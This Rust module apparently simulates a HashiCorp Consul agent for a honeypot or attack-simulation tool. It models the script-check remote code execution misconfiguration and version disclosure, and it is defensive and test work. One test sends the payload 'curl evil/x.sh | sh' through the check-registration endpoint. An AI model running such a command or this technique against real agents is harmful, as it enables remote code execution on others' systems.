//! HashiCorp Consul model.
//!
//! * The HTTP API is exposed by default but only becomes a code-execution
//!   MAV when `enable_script_checks` or `enable_remote_script_checks` is
//!   turned on (health checks then run attacker-supplied commands).
//! * Detection: `GET /v1/agent/self` is JSON whose `DebugConfig` has one
//!   of the two script-check options enabled.
//! * The UI includes an HTML comment with the version (voluntary
//!   disclosure used by the fingerprinter).

use crate::base::{impl_webapp, json_field, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Consul {
    pub(crate) base: BaseApp,
    registered_checks: Vec<String>,
}

impl Consul {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Consul {
            base: BaseApp::new(AppId::Consul, version, config),
            registered_checks: Vec::new(),
        }
    }

    fn self_json(&self) -> String {
        let script = self.base.config.script_checks;
        format!(
            "{{\"Config\":{{\"Datacenter\":\"dc1\",\"NodeName\":\"agent-1\",\
             \"Version\":\"{}\"}},\"DebugConfig\":{{\"EnableLocalScriptChecks\":{script},\
             \"EnableScriptChecks\":{script},\"EnableRemoteScriptChecks\":{script},\
             \"Bootstrap\":false}},\"Member\":{{\"Name\":\"agent-1\"}}}}",
            self.base.version.number()
        )
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::redirect("/ui/").into(),
            (nokeys_http::Method::Get, "/ui/") => Response::html(html::page_with_head(
                "Consul by HashiCorp",
                &format!(
                    "<!-- CONSUL_VERSION: {} -->\n{}",
                    self.base.version.number(),
                    html::css("/ui/assets/consul-ui.css")
                ),
                "<div data-consul=\"ui\" id=\"consul-ui\">Loading Consul...</div>",
            ))
            .into(),
            (nokeys_http::Method::Get, "/v1/agent/self") => Response::json(self.self_json()).into(),
            (nokeys_http::Method::Put, "/v1/agent/check/register")
            | (nokeys_http::Method::Post, "/v1/agent/check/register") => {
                let body = req.body_text();
                // The Script/Args field only executes when script checks
                // are enabled; otherwise Consul rejects the registration.
                // The first of the names present decides.
                let names = ["Script", "Args", "script", "args"];
                if let Some(script) = json_field(&body, &names) {
                    if self.base.config.script_checks {
                        self.registered_checks.push(script.to_string());
                        HandleOutcome::with_event(
                            Response::new(StatusCode::OK),
                            AppEvent::CommandExecuted {
                                command: script.to_string(),
                            },
                        )
                    } else {
                        Response::new(StatusCode::BAD_REQUEST)
                            .with_body("Scripts are disabled on this agent; to enable, configure 'enable_script_checks' to true")
                            .into()
                    }
                } else {
                    // Non-script checks register fine but execute nothing.
                    Response::new(StatusCode::OK).into()
                }
            }
            (nokeys_http::Method::Get, "/v1/catalog/services") => {
                Response::json("{\"consul\":[]}").into()
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.registered_checks.clear();
    }
}

impl_webapp!(Consul, Consul::reset_state);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn with_scripts(enabled: bool) -> Consul {
        let v = *release_history(AppId::Consul).last().unwrap();
        let cfg = if enabled {
            AppConfig::vulnerable_for(AppId::Consul, &v)
        } else {
            AppConfig::default_for(AppId::Consul, &v)
        };
        Consul::new(v, cfg)
    }

    #[test]
    fn default_is_exposed_but_not_vulnerable() {
        let mut app = with_scripts(false);
        assert!(!app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/v1/agent/self").response.body_text();
        assert!(body.contains("\"DebugConfig\""));
        assert!(body.contains("\"EnableScriptChecks\":false"));
    }

    #[test]
    fn script_checks_flag_shows_in_debug_config() {
        let mut app = with_scripts(true);
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/v1/agent/self").response.body_text();
        assert!(body.contains("\"EnableScriptChecks\":true"));
        assert!(body.contains("\"EnableRemoteScriptChecks\":true"));
    }

    #[test]
    fn script_check_registration_executes_when_enabled() {
        let mut app = with_scripts(true);
        let req = Request {
            method: nokeys_http::Method::Put,
            target: "/v1/agent/check/register".into(),
            version: Default::default(),
            headers: Default::default(),
            body: br#"{"Name":"health","Script":"curl evil/x.sh | sh","Interval":"10s"}"#.to_vec(),
        };
        let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("evil")
        ));
    }

    #[test]
    fn script_check_registration_rejected_when_disabled() {
        let mut app = with_scripts(false);
        let req = Request {
            method: nokeys_http::Method::Put,
            target: "/v1/agent/check/register".into(),
            version: Default::default(),
            headers: Default::default(),
            body: br#"{"Name":"h","Script":"id"}"#.to_vec(),
        };
        let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
        assert_eq!(out.response.status.as_u16(), 400);
        assert!(out.events.is_empty());
    }

    #[test]
    fn ui_discloses_version_in_comment() {
        let mut app = with_scripts(false);
        let body = DRIVER.get(&mut app, "/ui/").response.body_text();
        assert!(body.contains("CONSUL_VERSION:"));
        assert!(body.contains("Consul by HashiCorp"));
    }

    #[test]
    fn non_script_checks_are_harmless() {
        let mut app = with_scripts(true);
        let req = Request {
            method: nokeys_http::Method::Put,
            target: "/v1/agent/check/register".into(),
            version: Default::default(),
            headers: Default::default(),
            body: br#"{"Name":"http-check","HTTP":"http://x/"}"#.to_vec(),
        };
        let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
        assert!(out.events.is_empty());
        assert_eq!(out.response.status.as_u16(), 200);
    }
}
